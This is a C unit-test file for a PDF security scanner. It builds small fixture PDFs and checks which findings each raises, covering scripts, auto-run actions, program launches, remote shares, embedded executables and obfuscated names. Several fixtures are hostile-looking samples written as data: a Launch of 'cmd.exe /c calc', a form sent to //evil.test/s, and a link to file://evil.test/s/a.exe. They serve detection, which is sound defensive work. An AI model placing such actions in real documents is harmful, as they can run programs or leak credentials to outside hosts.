/* PDFs made here: each rule of theirs with what it is for, and what is nearly that. */
#include "content/archive_test_kit.h"
#include "document/document.h"
#include "document/pdf_internal.h"

#define PDF(objects)  "%PDF-1.7\n" objects "\n%%EOF\n"
#define PAGE          "1 0 obj<</Type/Page/Contents 2 0 R>>endobj "
#define LINK(n, uri)  n " 0 obj<</S/URI/URI(" uri ")>>endobj "
#define TEXT(text)    "2 0 obj<<>>stream\nBT(" text ")Tj ET\nendstream endobj "
#define FILE_OF(name) "1 0 obj<</Type/Filespec/UF(" name ")/EF<</F 2 0 R>>>>endobj "
#define FILE_BYTES(b) "2 0 obj<</Type/EmbeddedFile>>stream\n" b "\nendstream endobj "
#define X16(x)        x x x x x x x x x x x x x x x x
#define X1024(x)      X16(X16(x x x x))

static const struct row {
    const char *label;
    enum finding_id id;
    struct str bytes;
    bool raised;
    enum severity severity;
    const char *evidence;
} rows[] = {
    {"a script", FINDING_PDF_JAVASCRIPT,
     STR_INIT(PDF("1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj")), true, SEV_MEDIUM,
     "1 script: app.alert(1)"},
    {"a tree of scripts that is not there", FINDING_PDF_JAVASCRIPT,
     STR_INIT(PDF("1 0 obj<</Names<</JavaScript 9 0 R>>>>endobj")), true, SEV_MEDIUM,
     "not readable"},
    {"text about scripts", FINDING_PDF_JAVASCRIPT,
     STR_INIT(PDF("1 0 obj<</Title(/JS /JavaScript)>>endobj " PAGE TEXT("/JavaScript"))), false,
     SEV_INFO, NULL},

    {"a script when it is opened", FINDING_PDF_AUTO_ACTION,
     STR_INIT(PDF("1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/JavaScript/JS(go())>>endobj")),
     true, SEV_HIGH, "/OpenAction and JavaScript: go()"},
    {"a program when a page is shown", FINDING_PDF_AUTO_ACTION,
     STR_INIT(PDF("1 0 obj<</Type/Page/AA<</O<</S/Launch/F(a.exe)>>>>>>endobj")), true, SEV_HIGH,
     "/AA and a program or file: a.exe"},
    {"a script, and a view when it is opened", FINDING_PDF_AUTO_ACTION,
     STR_INIT(PDF("1 0 obj<</OpenAction[3 0 R/Fit]>>endobj 2 0 obj<</S/JavaScript/JS(f)>>endobj")),
     false, SEV_INFO, NULL},
    {"a script of a field that is typed into", FINDING_PDF_AUTO_ACTION,
     STR_INIT(PDF("1 0 obj<</FT/Tx/AA<</K<</S/JavaScript/JS(AFNumber_Keystroke)>>>>>>endobj")),
     false, SEV_INFO, NULL},
    {"an action when it is opened, and no script", FINDING_PDF_AUTO_ACTION,
     STR_INIT(PDF("1 0 obj<</OpenAction<</S/URI/URI(http://a.test)>>>>endobj")), false, SEV_INFO,
     NULL},

    {"a program", FINDING_PDF_LAUNCH,
     STR_INIT(PDF("1 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>endobj")), true, SEV_HIGH,
     "Launch cmd.exe with /c calc"},
    {"a PDF on another host", FINDING_PDF_LAUNCH,
     STR_INIT(PDF("1 0 obj<</S/GoToE/F(\\\\\\\\10.0.0.1\\\\x)>>endobj")), true, SEV_HIGH,
     "GoToR \\\\10.0.0.1\\x"},
    {"a form sent to a share", FINDING_PDF_LAUNCH,
     STR_INIT(PDF("1 0 obj<</S/SubmitForm/F<</F(//evil.test/s)>>>>endobj")), true, SEV_HIGH,
     "SubmitForm //evil.test/s"},
    {"a link to a share", FINDING_PDF_LAUNCH, STR_INIT(PDF(LINK("1", "file://evil.test/s/a.exe"))),
     true, SEV_HIGH, "a link opens file://evil.test/s/a.exe"},
    {"a chapter beside it", FINDING_PDF_LAUNCH,
     STR_INIT(PDF("1 0 obj<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>endobj")), false, SEV_INFO, NULL},
    {"a form sent to a server", FINDING_PDF_LAUNCH,
     STR_INIT(PDF("1 0 obj<</S/SubmitForm/F<</FS/URL/F(https://forms.test/)>>>>endobj")), false,
     SEV_INFO, NULL},
    {"a link that is left from somebody's disk", FINDING_PDF_LAUNCH,
     STR_INIT(PDF(LINK("1", "file:///C:/Users/me/a.docx"))), false, SEV_INFO, NULL},

    {"an invoice's data", FINDING_PDF_EMBEDDED_FILE,
     STR_INIT(PDF(FILE_OF("factur-x.xml") FILE_BYTES("<?xml version=\"1.0\"?><a/>"))), true,
     SEV_MEDIUM, "\"factur-x.xml\""},
    {"a script by its name", FINDING_PDF_EMBEDDED_FILE,
     STR_INIT(PDF(FILE_OF("invoice.pdf.js") FILE_BYTES("var a;"))), true, SEV_HIGH,
     "\"invoice.pdf.js\""},
    {"a program by its bytes", FINDING_PDF_EMBEDDED_FILE,
     STR_INIT(PDF(FILE_OF("a.dat") FILE_BYTES("\177ELF\2\1\1"))), true, SEV_HIGH, "elf"},
    {"two names, one of a program", FINDING_PDF_EMBEDDED_FILE,
     STR_INIT(PDF("1 0 obj<</F(a.exe)/UF(a.txt)/EF<</F 2 0 R>>>>endobj " FILE_BYTES("x"))), true,
     SEV_HIGH, "\"a.txt\", also \"a.exe\""},
    {"a file that is named, not embedded", FINDING_PDF_EMBEDDED_FILE,
     STR_INIT(PDF("1 0 obj<</Type/Filespec/F(a.exe)>>endobj")), false, SEV_INFO, NULL},

    {"a name written to be missed", FINDING_PDF_NAME_OBFUSCATED,
     STR_INIT(PDF("1 0 obj<</S/Jav#61Script/J#53(x)>>endobj")), true, SEV_MEDIUM,
     "/Jav#61Script /J#53"},
    {"the name of a font with a blank", FINDING_PDF_NAME_OBFUSCATED,
     STR_INIT(PDF("1 0 obj<</BaseFont/Times#20New#20Roman>>endobj")), false, SEV_INFO, NULL},

    {"by something that nobody knows", FINDING_PDF_ENCRYPTED,
     STR_INIT(PDF("trailer<</Encrypt 1 0 R>> 1 0 obj<</Filter/Other.Security>>endobj")), true,
     SEV_LOW, "not looked into"},
    {"the word as a name of something else", FINDING_PDF_ENCRYPTED,
     STR_INIT(PDF("1 0 obj<</Encrypt 2 0 R>>endobj")), false, SEV_INFO, NULL},

    {"little said, one link", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE TEXT("Open the document") LINK("3", "https://a.test/x")
                      LINK("4", "https://a.test/x"))),
     true, SEV_LOW, "1 page, 17 characters of text, leads to https://a.test/x"},
    {"two links", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE TEXT("Open") LINK("3", "https://a.test/x") LINK("4", "https://b.test/"))),
     true, SEV_LOW, "https://a.test/x"},
    {"three links", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE TEXT("Open") LINK("3", "https://a.test") LINK("4", "https://b.test/")
                      LINK("5", "https://c.test"))),
     false, SEV_INFO, NULL},
    {"an address to write to", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE TEXT("Write") LINK("3", "mailto:me@a.test"))), false, SEV_INFO, NULL},
    {"much text", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE TEXT(X1024("more ")) LINK("3", "https://a.test/x"))), false, SEV_INFO, NULL},
    {"three pages", FINDING_PDF_SINGLE_LINK,
     STR_INIT(PDF(PAGE PAGE PAGE LINK("3", "https://a.test/x"))), false, SEV_INFO, NULL},

    {"something stands before it", FINDING_PDF_STRUCTURE,
     STR_INIT("#!/bin/sh\n" PDF("1 0 obj<<>>endobj")), true, SEV_MEDIUM, "offset 10"},
    {"blanks before it", FINDING_PDF_STRUCTURE, STR_INIT("\r\n" PDF("1 0 obj<<>>endobj")), false,
     SEV_INFO, NULL},
    {"one behind the other", FINDING_PDF_STRUCTURE, STR_INIT(PDF("1 0 obj<<>>endobj") PDF("")),
     true, SEV_MEDIUM, "begins again"},
    {"one within the other", FINDING_PDF_STRUCTURE,
     STR_INIT(PDF("1 0 obj<<>>stream\n" PDF("") "endstream endobj")), false, SEV_INFO, NULL},
    {"much behind its end", FINDING_PDF_STRUCTURE, STR_INIT(PDF("1 0 obj<<>>endobj") X1024("xy")),
     true, SEV_MEDIUM, "2048 bytes"},
    {"little behind its end", FINDING_PDF_STRUCTURE, STR_INIT(PDF("1 0 obj<<>>endobj") X1024("x")),
     false, SEV_INFO, NULL},

    {"more objects than are read", FINDING_LIMIT_CONTENT,
     STR_INIT("%PDF-1.7\n" X1024("1 0 obj ") X1024("1 0 obj ") X1024("1 0 obj ") X1024("1 0 obj ")
                  X1024("1 0 obj ") X1024("1 0 obj ") X1024("1 0 obj ") X1024("1 0 obj ")
                      X1024("1 0 obj ") X1024("1 0 obj ")),
     true, SEV_LOW, "objects in a PDF"},
    {"many objects", FINDING_LIMIT_CONTENT, STR_INIT("%PDF-1.7\n" X1024("1 0 obj ")), false,
     SEV_INFO, NULL},
};

static const struct finding *find(const struct kit_run *r, enum finding_id id)
{
    for (size_t i = 0; i < r->report.findings.n; i++)
        if (r->report.findings.items[i].id == id)
            return &r->report.findings.items[i];
    return NULL;
}

static void expect(const struct kit_run *r, const struct row *row)
{
    const struct finding *f = find(r, row->id);
    tap_int(f != NULL, row->raised);
    if (f == NULL || !row->raised)
        return;
    if (row->id != FINDING_LIMIT_CONTENT)
        tap_cstr(severity_name(f->severity), severity_name(row->severity));
    if (!tap_ok(str_search(f->evidence, str_from(row->evidence)) < f->evidence.n))
        tap_note(STR_FMT, STR_ARG(f->evidence));
    tap_str(f->where.part, STR("2"));
}

static void inspect(struct kit_run *r, struct str bytes, const struct str *passwords, size_t n)
{
    kit_inspect(r, STR("a.pdf"), bytes, passwords, n);
    tap_ok(document_is_heavy(&r->report.objects[0]));
    tap_int(document_inspect(&r->content, NULL), MP_OK);
}

/* ---- what goes into the report ---- */

static struct str text_of(const struct kit_run *r, enum text_kind kind)
{
    for (size_t i = 0; i < r->report.n_texts; i++)
        if (r->report.texts[i].kind == kind)
            return r->report.texts[i].text;
    return STR_NONE;
}

static void test_found(void)
{
    static const struct str passwords[] = {STR_INIT("none"), STR_INIT("123")};
    static const struct {
        const char *file, *evidence;
        enum severity severity;
    } files[] = {{"plain.pdf", NULL, SEV_INFO},
                 {"objstm.pdf", NULL, SEV_INFO},
                 {"aesv3-r6.pdf", "without a password", SEV_LOW},
                 {"rc4-128-password.pdf", "the mail tells: 123", SEV_MEDIUM}};
    for (size_t i = 0; i < ARRAY_LEN(files); i++) {
        struct kit_run r;
        struct arena arena;
        arena_init(&arena, 4096);
        struct str path = arena_fmt(&arena, "tests/seeds/pdf/%s", files[i].file);
        tap_case("pdf in a report: %s", files[i].file);
        inspect(&r, tap_source_file(path.p), passwords, ARRAY_LEN(passwords));
        tap_int(r.report.n_links, 1);
        tap_int(r.report.links[0].source, LINK_PDF);
        tap_str(r.report.links[0].url, STR("https://pay.example/open?id=7"));
        tap_str(text_of(&r, TEXT_SEEN), STR("Pay the open invoice\ntoday\n"));
        tap_str(text_of(&r, TEXT_MACRO), STR("app.alert(\"hello\");"));
        tap_int(r.report.n, 2);
        tap_str(r.report.objects[1].member, STR("notes.txt"));
        tap_str(r.report.objects[1].bytes, STR("these are the notes"));
        tap_ok(r.report.complete);
        const struct finding *f = find(&r, FINDING_PDF_ENCRYPTED);
        tap_int(f != NULL, files[i].evidence != NULL);
        if (f != NULL) {
            tap_int(f->severity, files[i].severity);
            tap_ok(str_search(f->evidence, str_from(files[i].evidence)) < f->evidence.n);
        }
        arena_clear(&arena);
        kit_clear(&r);
    }
    struct kit_run r;
    tap_case("pdf in a report: locked");
    inspect(&r, tap_source_file("tests/seeds/pdf/rc4-128-password.pdf"), NULL, 0);
    tap_int(r.report.n_links, 0);
    tap_int(r.report.n_texts, 0);
    tap_ok(find(&r, FINDING_PDF_ENCRYPTED) != NULL);
    kit_clear(&r);
    tap_case("pdf in a report: a PDF in a PDF is read too");
    inspect(&r, STR(PDF(FILE_OF("b.pdf") FILE_BYTES("%PDF-1.4 7 0 obj<</URI(http://b)>>endobj"))),
            NULL, 0);
    tap_int(r.report.n, 2);
    tap_int(r.report.n_links, 2); /* also where it stands bare */
    tap_int(r.report.links[1].object, 1);
    kit_clear(&r);
    tap_case("pdf in a report: one share is told once");
    inspect(&r,
            STR(PDF(
                "1 0 obj<</S/GoToR/F(\\\\\\\\h\\\\s)>>endobj 2 0 obj<</F(\\\\\\\\h\\\\s)>>endobj")),
            NULL, 0);
    tap_int(r.report.findings.per_kind[FINDING_PDF_LAUNCH], 1);
    kit_clear(&r);
    tap_case("pdf in a report: links written in text and in scripts");
    inspect(&r,
            STR(PDF(PAGE TEXT("see www.a.test, or ask") "3 0 obj<</S/JavaScript/JS(app.launchURL"
                                                        "\\(\"https://b.test/x\"\\))>>endobj")),
            NULL, 0);
    tap_int(r.report.n_links, 2);
    tap_str(r.report.links[0].url, STR("www.a.test"));
    tap_int(r.report.links[0].source, LINK_TEXT);
    tap_str(r.report.links[1].url, STR("https://b.test/x"));
    tap_int(r.report.links[1].source, LINK_SCRIPT);
    kit_clear(&r);
}

/* ---- which objects ---- */

static const struct {
    const char *label;
    struct str bytes;
    const char *type;
    bool wanted;
} kinds[] = {
    {"a PDF", STR_INIT(PDF("")), "application", true},
    {"behind something else", STR_INIT("GIF89a\0\0" PDF("")), "image", true},
    {"a mail about PDFs", STR_INIT("Files begin with %PDF-1.4"), "text", false},
    {"too far behind", STR_INIT(X1024("xy") PDF("")), "application", false},
};

static const struct {
    const char *target;
    bool foreign;
} targets[] = {
    {"\\\\host\\share", true},  {"//host/share", true},
    {"/host/share", false},     {"file://host/share", true},
    {"file:///C:/a", false},    {"file:////host/a", true},
    {"file:\\\\host\\a", true}, {"file://localhost/a", false},
    {"file:a.pdf", false},      {"smb://host/a", true},
    {"http://host/a", false},   {"\\\\", false},
    {"file://C:/a", false},     {"///host", false},
};

int main(void)
{
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct kit_run r;
        tap_case("%s: %s", finding_kind(rows[i].id)->name.p, rows[i].label);
        inspect(&r, rows[i].bytes, NULL, 0);
        expect(&r, &rows[i]);
        kit_clear(&r);
    }
    test_found();
    for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
        struct content_object o = {.type = str_from(kinds[i].type), .bytes = kinds[i].bytes};
        o.kind = file_type_of(o.bytes);
        tap_case("pdf: read is %s", kinds[i].label);
        tap_int(document_is_heavy(&o), kinds[i].wanted);
    }
    for (size_t i = 0; i < ARRAY_LEN(targets); i++) {
        tap_case("pdf: on another host, %s", targets[i].target);
        tap_int(pdf_is_foreign_file(str_from(targets[i].target)), targets[i].foreign);
    }
    return tap_done();
}
